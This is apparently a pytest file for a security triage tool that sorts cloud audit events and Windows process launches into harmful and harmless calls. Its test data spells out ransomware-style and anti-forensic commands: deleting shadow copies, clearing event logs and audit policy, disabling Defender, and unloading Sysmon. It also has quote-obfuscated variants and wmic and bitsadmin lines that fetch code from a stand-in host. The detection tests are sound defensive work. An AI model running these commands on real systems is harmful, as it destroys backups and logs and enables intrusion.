"""Whom a call lets in, who makes it, and whether its parameters make it harmless."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from triage.logtypes import Harm, LogType, harmful_action, shipped_log_types
from triage.logtypes.parameters import Party, columns_sql, from_lake
from triage.logtypes.parties import admitted, caller, harm_of_call

AWS, OWN = "AWS.CloudTrail", "111122223333"


def call(**parameters: Any) -> dict[str, Any]:
    """A call with these parameters."""
    return {"recipientAccountId": OWN, "requestParameters": parameters}


def policy(principal: Any, *, effect: str = "Allow", **more: Any) -> dict[str, Any]:
    """A policy document of one statement."""
    return {"Version": "2012-10-17", "Statement": [{"Effect": effect, "Principal": principal, "Action": "*", **more}]}


@pytest.mark.parametrize(
    ("document", "party"),
    [
        (policy("*"), Party.PUBLIC),
        (policy({"AWS": "*"}), Party.PUBLIC),
        (policy({"AWS": ["*"]}), Party.PUBLIC),
        (json.dumps(policy({"AWS": "*"})), Party.PUBLIC),
        (policy({"AWS": f"arn:aws:iam::{OWN}:root"}), Party.OWN),
        (policy({"AWS": OWN}), Party.OWN),
        (policy({"AWS": "arn:aws:iam::999900001111:role/x"}), Party.FOREIGN),
        (policy({"Service": "delivery.logs.amazonaws.com"}), Party.SERVICE),
        (policy({"AWS": "arn:aws:iam::127311923021:root"}), Party.SERVICE),
        (policy({"Federated": "token.actions.githubusercontent.com"}), Party.FEDERATED),
        (policy("*", Condition={"StringEquals": {"aws:PrincipalOrgID": "o-1"}}), Party.OWN),
        (policy("*", Condition={"StringEquals": {"aws:SourceAccount": OWN}}), Party.OWN),
        (policy("*", Condition={"StringEquals": {"aws:SourceAccount": "999900001111"}}), Party.FOREIGN),
        (policy("*", Condition={"StringNotEquals": {"aws:SourceAccount": "999900001111"}}), Party.PUBLIC),
        (policy("*", Condition={"IpAddress": {"aws:SourceIp": "0.0.0.0/0"}}), Party.PUBLIC),
        (policy("*", Condition={"Bool": {"aws:SecureTransport": "true"}}), Party.PUBLIC),
    ],
)
def test_a_bucket_policy_says_whom_it_lets_in(document: Any, party: Party) -> None:
    """Own, foreign, everyone, or a service; a condition counts only where it keeps somebody out."""
    (found,) = admitted(AWS, "PutBucketPolicy", call(bucketName="b", bucketPolicy=document), frozenset())

    assert found.party is party


def test_a_statement_that_denies_lets_nobody_in() -> None:
    """Refusing plain HTTP to everyone is the most common statement of all."""
    assert admitted(AWS, "PutBucketPolicy", call(bucketPolicy=policy("*", effect="Deny")), frozenset()) == ()


def test_another_account_of_the_organisation_is_no_stranger() -> None:
    """Accounts whose logs are here are the organisation's own."""
    event = call(valuesToAdd=["999900001111"])

    assert admitted(AWS, "ModifyDBSnapshotAttribute", event, frozenset())[0].party is Party.FOREIGN
    assert admitted(AWS, "ModifyDBSnapshotAttribute", event, frozenset({"999900001111"}))[0].party is Party.OWN


HARMLESS: list[tuple[str, dict[str, Any]]] = [
    ("PutBucketPolicy", call(bucketPolicy=policy({"Service": "cloudtrail.amazonaws.com"}))),
    ("CreateRole", call(assumeRolePolicyDocument=json.dumps(policy({"Service": "lambda.amazonaws.com"})))),
    ("AttachRolePolicy", call(policyArn="arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole")),
    ("AttachUserPolicy", call(policyArn="arn:aws:iam::aws:policy/ReadOnlyAccess")),
    ("PutEventSelectors", call(eventSelectors=[{"includeManagementEvents": True, "readWriteType": "All"}])),
    ("UpdateTrail", call(name="t", isMultiRegionTrail=True)),
    ("AuthorizeSecurityGroupIngress", call(ipPermissions={"items": [{"ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}}]})),
]  # fmt: skip
HARMFUL: list[tuple[str, dict[str, Any]]] = [
    ("PutBucketPolicy", call(bucketPolicy=policy("*"))),
    ("PutBucketPolicy", call(bucketPolicy="not read")),
    ("PutBucketPolicy", call()),
    ("CreateRole", call(assumeRolePolicyDocument=json.dumps(policy({"AWS": OWN})))),
    ("UpdateAssumeRolePolicy", call(policyDocument=json.dumps(policy({"AWS": "999900001111"})))),
    ("AttachRolePolicy", call(policyArn="arn:aws:iam::aws:policy/AdministratorAccess")),
    ("AttachRolePolicy", call(policyArn=f"arn:aws:iam::{OWN}:policy/ReadOnlyAccess")),
    ("PutEventSelectors", call(eventSelectors=[{"includeManagementEvents": False, "readWriteType": "All"}])),
    ("UpdateTrail", call(name="t", isMultiRegionTrail=False)),
    ("UpdateTrail", call(name="t", isMultiRegionTrail=True, s3BucketName="elsewhere")),
    ("AuthorizeSecurityGroupIngress", call(ipPermissions={"items": [{"ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]})),
]  # fmt: skip


@pytest.mark.parametrize(("action", "event"), HARMLESS)
def test_parameters_tell_a_harmless_call(action: str, event: dict[str, Any]) -> None:
    """A service's access, logging switched on, a basic policy: what the name alone would call harm."""
    assert harm_of_call(AWS, action, [event]) is None
    assert harm_of_call(AWS, action, []) is not None


@pytest.mark.parametrize(("action", "event"), HARMFUL)
def test_what_is_not_shown_to_be_harmless_is_harm(action: str, event: dict[str, Any]) -> None:
    """Strangers let in, logging switched off, and whatever could not be read."""
    assert harm_of_call(AWS, action, [event]) is not None


def test_one_harmful_or_unknown_call_among_harmless_ones_is_harm() -> None:
    """Every call of the name must be shown to be harmless."""
    action, harmless = HARMLESS[0]

    assert harm_of_call(AWS, action, [harmless, None]) is not None
    assert harm_of_call(AWS, action, [harmless, HARMFUL[0][1]]) is not None
    found = harm_of_call(AWS, "StopLogging", [None])
    assert found is not None
    assert found.harm is Harm.EVASION


def test_foreign_and_anonymous_callers_are_told_from_own_ones() -> None:
    """By the account of the caller; a service or an own account is neither."""

    def by(**identity: str) -> dict[str, Any]:
        return {"recipientAccountId": OWN, "userIdentity": identity}

    foreign = caller(AWS, by(type="AWSAccount", accountId="999900001111"), frozenset())
    anonymous = caller(AWS, by(type="AWSAccount", accountId="anonymous"), frozenset())

    assert foreign is not None
    assert foreign.party is Party.FOREIGN
    assert anonymous is not None
    assert anonymous.party is Party.PUBLIC
    assert caller(AWS, by(accountId=OWN), frozenset()) is None
    assert caller(AWS, by(type="AWSService"), frozenset()) is None
    assert caller("Amazon.EKS.Audit", {"user": {"username": "system:anonymous"}}, frozenset()) is not None


def test_a_binding_for_everyone_is_public() -> None:
    """In Google Cloud by `allUsers`, in Kubernetes by the group of those without a name; a removed one lets nobody in."""
    delta = {"bindingDeltas": [{"action": "ADD", "member": "allUsers"}, {"action": "REMOVE", "member": "user:a@b.c"}]}
    google = {"protoPayload": {"serviceData": {"policyDelta": delta}}}
    cluster = {"requestObject": {"subjects": [{"kind": "Group", "name": "system:unauthenticated"}]}}

    (member,) = admitted("GCP.AuditLog", "google.iam.v1.IAMPolicy.SetIamPolicy", google, frozenset())
    (group,) = admitted("Amazon.EKS.Audit", "create clusterrolebindings/", cluster, frozenset())
    assert member.party is group.party is Party.PUBLIC


def test_parameters_come_back_from_the_lake_as_they_were() -> None:
    """Only a column's own keys are asked for, under their paths."""
    asked = columns_sql(["requestParameters.a.*.b", "requestParameters.x-y", "recipientAccountId"])

    assert "'requestParameters.a', requestParameters:a" in asked
    assert "requestParameters['x-y']" in asked
    assert from_lake('{"requestParameters.a": [1], "recipientAccountId": "1"}') == {
        "requestParameters": {"a": [1]},
        "recipientAccountId": "1",
    }
    assert from_lake('{"requestParameters.a": [1') is None
    assert columns_sql([]) == "NULL::string"


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8) | st.sampled_from(["*", "Allow", OWN]),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["Statement", "Principal", "AWS", "Effect", "Condition", "x"]), inner, max_size=3
        )
    ),
    max_leaves=12,
)


@given(JSON)
def test_no_document_breaks_the_reading(document: Any) -> None:
    """Whoever makes a call writes its parameters."""
    admitted(AWS, "PutBucketPolicy", call(bucketPolicy=document), frozenset())
    harm_of_call(AWS, "PutBucketPolicy", [call(bucketPolicy=document)])


@given(JSON.map(json.dumps))
def test_no_answer_of_the_lake_breaks_the_reading(text: str) -> None:
    """The lake's text is JSON of whatever was logged."""
    event = from_lake(text)
    assert event is None or harm_of_call(AWS, "StopLogging", [event]) is not None


def program(command: str) -> tuple[str, dict[str, Any]]:
    """The action and the event of a program that starts; it lies where Windows has it."""
    name = command.partition(" ")[0].strip('"').rpartition("\\")[2].removesuffix(".exe")
    path = f"\\Device\\HarddiskVolume3\\Windows\\System32\\{name}.exe"
    return f"ProcessRollup2 {path}", {"event": {"ImageFileName": path, "CommandLine": command}}


@pytest.mark.parametrize(
    "command",
    [
        "vssadmin.exe list shadows",
        'vssadmin.exe" List Shadows /for=C:',
        "vssadmin  list writers",
        "wevtutil.exe qe System /c:1",
        "wevtutil gl Security",
        "wevtutil el",
        "bcdedit /enum {default}",
        "bcdedit.exe /enum all /v",
        "auditpol /get /category:*",
        "auditpol.exe /list /subcategory:*",
        "fltmc",
        "fltmc.exe filters",
        "fltmc instances -v C:",
        "sc.exe query",
        "sc qc eventlog",
        "fsutil.exe fsinfo drives",
        "wbadmin get versions",
        "schtasks.exe /query /fo LIST /v",
        "wmic os get caption",
        "bitsadmin /list /allusers",
    ],
)
def test_a_program_that_only_reads_does_no_harm(command: str) -> None:
    """Listing, querying and getting, however it is spelled."""
    action, event = program(command)
    assert harm_of_call("Crowdstrike.FDREvent", action, [event]) is None


@pytest.mark.parametrize(
    "command",
    [
        "vssadmin.exe delete shadows /all /quiet",
        "vssadmin delete shadows /for=list /quiet",
        "vssadmin.exe resize shadowstorage /for=c: /on=c: /maxsize=401MB",
        "vssadmin.exe",
        "wevtutil.exe cl Security",
        "wevtutil cl\tSecurity qe ",
        "wevtutil sl Security /e:false",
        "wevtutil epl Security c:\\x.evtx",
        "bcdedit /set {default} recoveryenabled No",
        "bcdedit /enum /set {default} recoveryenabled No",
        "bcdedit /deletevalue {default} safeboot",
        "auditpol /clear /y",
        'auditpol /set /category:"/get" /success:disable',
        "fltmc unload SysmonDrv",
        "fltmc.exe unload filters",
        "sc.exe stop eventlog",
        'sc.exe cre""ate x binpath= " query "',
        "sc config windefend start= disabled",
        "fsutil usn deletejournal /D C:",
        "wbadmin delete catalog -quiet",
        "schtasks.exe /create /sc minute /tn Updater /tr C:\\ProgramData\\u.exe",
        "schtasks /query /delete /tn x /f",
        "wmic shadowcopy delete",
        "wmic process call create calc.exe",
        'wmic process c"al"l crea"t"e get ',
        'wmic os get /format:"http://192.0.2.1/x.xsl"',
        "bitsadmin /transfer j http://192.0.2.1/x c:\\x /list",
    ],
)
def test_a_program_that_changes_something_or_might_is_harm_by_its_name(command: str) -> None:
    """A word that changes something is enough, wherever it stands; so is a command line that isn't known."""
    action, event = program(command)
    assert harm_of_call("Crowdstrike.FDREvent", action, [event]) is not None


def test_a_program_without_a_command_line_is_harm_by_its_name() -> None:
    """The sensor doesn't always send it; nothing is excused then."""
    action, _ = program("vssadmin.exe list shadows")
    assert harm_of_call("Crowdstrike.FDREvent", action, [{"event": {}}]) is not None
    assert harm_of_call("Crowdstrike.FDREvent", action, [program("vssadmin list shadows")[1], None]) is not None


@pytest.mark.parametrize(
    ("parameters", "harmless"),
    [({"visibility": "shared_internally"}, True), ({"visibility": "shared_externally"}, False), ({}, False)],
)
def test_a_share_among_colleagues_is_no_exposure(parameters: dict[str, str], harmless: bool) -> None:
    """Google says who can see the file after the change; where it doesn't, nothing is excused."""
    event = {"parameters": {"target_user": "bo@acme.example", **parameters}}
    assert (harm_of_call("GSuite.ActivityEvent", "change_user_access", [event]) is None) is harmless


@pytest.mark.parametrize("file", [file for file in shipped_log_types() if file.details], ids=lambda file: file.log_type)
def test_details_are_those_of_harmful_calls(file: LogType) -> None:
    """The question that shows them asks for harmful calls."""
    for globs in (entry.actions for entry in file.details):
        for glob in globs:
            assert harmful_action(file.log_type, glob.replace("*", "x")) is not None, glob
